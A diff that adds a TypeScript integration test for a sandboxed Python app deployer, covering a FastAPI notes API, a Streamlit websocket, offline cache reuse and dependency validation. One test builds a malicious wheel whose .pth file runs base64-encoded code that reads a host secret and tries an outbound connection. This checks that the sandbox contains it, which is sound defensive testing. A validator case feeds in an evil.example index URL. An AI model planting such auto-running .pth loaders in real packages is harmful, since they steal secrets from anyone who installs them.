@@ -1,0 +1,185 @@
+/**
+ * The Python stacks on the local runner, with the pip index configured on this machine (a local mirror here; the
+ * test says in one sentence what it lacks and skips, unless SPAWN_APP_REQUIRE_PYTHON=1): the CLI's built-in notes API
+ * (POST a note, GET it back), the Streamlit chart served through the forwarder with its websocket, both verified
+ * without a false alarm; the second run (with no network) takes the stack's venv from the dependency cache; a hostile extra's code runs
+ * only inside the install sandbox (no host home, no way out).
+ */
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import os from 'node:os';
+import path from 'node:path';
+import { deploy } from '../../src/core/deploy/deploy';
+import type { SpawnEvent } from '../../src/core/base/events';
+import { LocalProvider } from '../../src/core/sandbox/local/provider';
+import { templateSpec, withScaffold } from '../../src/core/stacks';
+import { pinnedRequirements } from '../../src/core/stacks/python';
+import { PYTHON_API_PACKAGES } from '../../src/core/stacks/python-api';
+import { STREAMLIT_PACKAGES } from '../../src/core/stacks/streamlit';
+import { hasErrors, validateSpec } from '../../src/core/validate';
+import { FakePyPI } from '../fakes/fakePyPI';
+import { ensureBuilt, startCli } from '../helpers/cli';
+import type { LiveCli } from '../helpers/cli';
+import { request } from '../helpers/http';
+import { requireSandbox } from '../helpers/sandbox';
+
+/** The pins the index configured here does not serve (pip download, no install), as one sentence; undefined: all there. */
+function missingFromIndex(reqs: string[]): string | undefined {
+  const dir = mkdtempSync(path.join(os.tmpdir(), 'spawn-pip-probe-'));
+  try {
+    execFileSync('python3', ['-m', 'pip', 'download', '--no-deps', '--retries', '1', '--quiet', '-d', dir, ...reqs], { stdio: 'pipe', timeout: 180_000 });
+    return undefined;
+  } catch (err) {
+    const text = String((err as { stderr?: Buffer }).stderr ?? err);
+    const what = /No matching distribution found for (\S+)/.exec(text)?.[1] ?? reqs.join(', ');
+    return `the pip index configured on this machine does not serve ${what} (pip download failed), so the Python stacks cannot be installed here`;
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+/** A per-user cache folder kept between runs (building streamlit's venv takes minutes on a loaded machine). */
+const CACHE = path.join(os.tmpdir(), `spawn-app-test-pycache-${process.getuid?.() ?? 0}`, 'deps');
+
+const phaseOf = (cli: LiveCli, phase: string) => cli.lines.flatMap((l) => {
+  try {
+    const e = JSON.parse(l) as { event?: string; phase?: string; status?: string; detail?: string };
+    return e.event === 'phase' && e.phase === phase ? [`${e.status}${e.detail ? ` ${e.detail}` : ''}`] : [];
+  } catch {
+    return [];
+  }
+});
+
+/** Stops a serving `run` (Ctrl-C) and waits for its exit. */
+async function stop(cli: LiveCli): Promise<void> {
+  cli.child.kill('SIGINT');
+  await cli.done;
+}
+
+/** A websocket upgrade to the app's URL (what the browser does for Streamlit's `/_stcore/stream`): its status line. */
+function upgrade(url: string): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const req = http.request(url, { headers: { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Protocol': 'streamlit' } });
+    req.on('upgrade', (res, socket) => {
+      socket.destroy();
+      resolve(res.statusCode ?? 0);
+    });
+    req.on('response', (res) => {
+      res.resume();
+      resolve(res.statusCode ?? 0);
+    });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+describe('the Python stacks on the local runner (the pip index configured here)', function () {
+  this.timeout(900_000);
+  let root: string;
+  const env = () => ({ SPAWN_APP_CACHE_DIR: CACHE, SPAWN_APP_LOCAL_ROOT: root });
+
+  before(function () {
+    if (process.platform !== 'linux') this.skip();
+    requireSandbox(this);
+    const missing = missingFromIndex([...pinnedRequirements(PYTHON_API_PACKAGES), ...pinnedRequirements(STREAMLIT_PACKAGES)]);
+    if (missing) {
+      if (process.env.SPAWN_APP_REQUIRE_PYTHON === '1') throw new Error(`SPAWN_APP_REQUIRE_PYTHON=1, but ${missing}.`);
+      console.log(`      Skipped: ${missing}.`);
+      this.skip();
+    }
+    mkdirSync(CACHE, { recursive: true, mode: 0o700 });
+    ensureBuilt();
+  });
+  beforeEach(() => {
+    root = mkdtempSync(path.join(os.tmpdir(), 'spawn-py-root-'));
+  });
+  afterEach(() => rmSync(root, { recursive: true, force: true }));
+
+  it('CLI, no keys: `run "a notes api" --type python-api` serves the FastAPI notes API, verified; a note POSTed is read back; the second run (--no-network) installs nothing', async () => {
+    for (const run of ['first', 'second'] as const) {
+      // The second run has no network at all: it still starts, from the cache.
+      const cli = startCli(['run', 'a notes api', '--type', 'python-api', '--json', '--yes', ...(run === 'second' ? ['--no-network'] : [])], env());
+      try {
+        const verified = await cli.waitFor((e) => e.event === 'verify' && e.status === 'finished', 600_000);
+        assert.equal(verified.state, 'verified', `no false alarm: ${JSON.stringify(verified.problems)}`);
+        const url = String(verified.url);
+        const posted = await request(`${url}/api/notes`, { method: 'POST', body: JSON.stringify({ text: `a ${run} note` }), headers: { 'content-type': 'application/json' } });
+        assert.equal(posted.status, 201, posted.body);
+        const { id } = JSON.parse(posted.body) as { id: number };
+        const got = await request(`${url}/api/notes/${id}`);
+        assert.equal(got.status, 200);
+        assert.equal((JSON.parse(got.body) as { text: string }).text, `a ${run} note`);
+        assert.match((await request(url)).body, /<h1>Notes API<\/h1>/);
+        if (run === 'second') {
+          assert.deepEqual(phaseOf(cli, 'install').map((p) => p.replace(/-[0-9a-f]{12}$/, '-…')), ['skipped cached: python-api-…'], 'the second run took the venv from the cache: no install ran');
+          assert.ok(!cli.lines.some((l) => l.includes('"source":"install"')), 'no installer output');
+        }
+      } finally {
+        await stop(cli);
+      }
+    }
+  });
+
+  it('the Streamlit template serves its page and its websocket (/_stcore/stream) through the forwarder, verified in a browser', async () => {
+    const cli = startCli(['run', 'a chart of sales', '--type', 'streamlit', '--json', '--yes'], env());
+    try {
+      const verified = await cli.waitFor((e) => e.event === 'verify' && e.status === 'finished', 600_000);
+      assert.equal(verified.state, 'verified', `no false alarm: ${JSON.stringify(verified.problems)}`);
+      const url = String(verified.url);
+      const page = await request(url);
+      assert.equal(page.status, 200);
+      assert.match(page.body, /<div id="root">/);
+      assert.equal((await request(`${url}/_stcore/health`)).status, 200);
+      assert.equal(await upgrade(`${url}/_stcore/stream`), 101, 'the websocket upgrade passes the forwarder');
+    } finally {
+      await stop(cli);
+    }
+  });
+
+  it('a hostile extra (a wheel whose .pth runs at every interpreter start) runs only in the sandbox: no host home, no way out; the app still serves', async () => {
+    const secret = path.join(os.homedir(), `.spawn-py-attack-${process.pid}`);
+    writeFileSync(secret, 'host secret', { mode: 0o600 });
+    const attack = [
+      'import json, os, socket',
+      'r = {"ran": True}',
+      `try: r["home"] = open(${JSON.stringify(secret)}).read()`,
+      'except Exception as e: r["home"] = type(e).__name__',
+      'try: socket.create_connection(("192.0.2.1", 80), timeout=2); r["net"] = "connected"',
+      'except Exception as e: r["net"] = type(e).__name__',
+      'open(os.path.join(os.environ.get("HOME", "/tmp"), "attack.json"), "w").write(json.dumps(r))',
+    ].join('\n');
+    const pth = `import base64; exec(base64.b64decode(${JSON.stringify(Buffer.from(attack).toString('base64'))}))\n`;
+    const index = await FakePyPI.start([{ name: 'httpx', version: '99.0.0', files: { 'zz_spawn_attack.pth': pth } }]);
+    const provider = new LocalProvider({ root, cacheRoot: CACHE, env: { ...process.env, PIP_INDEX_URL: index.url } });
+    try {
+      const spec = withScaffold({ ...templateSpec('python-api', 'notes'), dependencies: ['httpx'] });
+      assert.ok(!hasErrors(validateSpec(spec)), 'httpx is an allowed extra');
+      const events: SpawnEvent[] = [];
+      const d = await deploy({ spec, provider, verify: false, onEvent: (e) => events.push(e) });
+      assert.ok(index.seen().some((u) => u.startsWith('/simple/httpx')), 'the extra came from the index of the user\'s settings');
+      const report = path.join(root, d.sandbox.id, 'home', 'attack.json');
+      assert.ok(existsSync(report), 'the hostile code ran (in the sandbox)');
+      const r = JSON.parse(readFileSync(report, 'utf8')) as { home: string; net: string };
+      assert.notEqual(r.home, 'host secret', 'the host home is hidden');
+      assert.notEqual(r.net, 'connected', 'no way out to a non-loopback address');
+      assert.equal((await request(`${d.url}/api/health`)).status, 200);
+    } finally {
+      await provider.destroyAll();
+      await index.close();
+      rmSync(secret, { force: true });
+    }
+  });
+
+  it('the validator refuses a changed pin, an extra outside the stack\'s list and a requirements line from elsewhere', () => {
+    const base = templateSpec('python-api', 'notes');
+    const rules = (deps: string[], req?: string) => validateSpec({ ...base, dependencies: deps, files: req === undefined ? base.files : [...base.files.filter((f) => f.path !== 'requirements.txt'), { path: 'requirements.txt', content: req }] }).filter((f) => f.severity === 'error').map((f) => f.rule);
+    assert.deepEqual(rules([...base.dependencies]), []);
+    assert.deepEqual(rules(['fastapi==0.100.0']), ['python-api.pin']);
+    assert.deepEqual(rules(['fastapi', 'uvicorn']), []);
+    assert.deepEqual(rules(['evilpkg']), ['python-api.extra']);
+    assert.ok(rules([], '--index-url http://evil.example/simple\nfastapi==0.142.2\n').includes('install.non_registry'));
+    assert.ok(rules([], 'uvicorn==0.1\n').includes('python-api.pin'));
+  });
+});
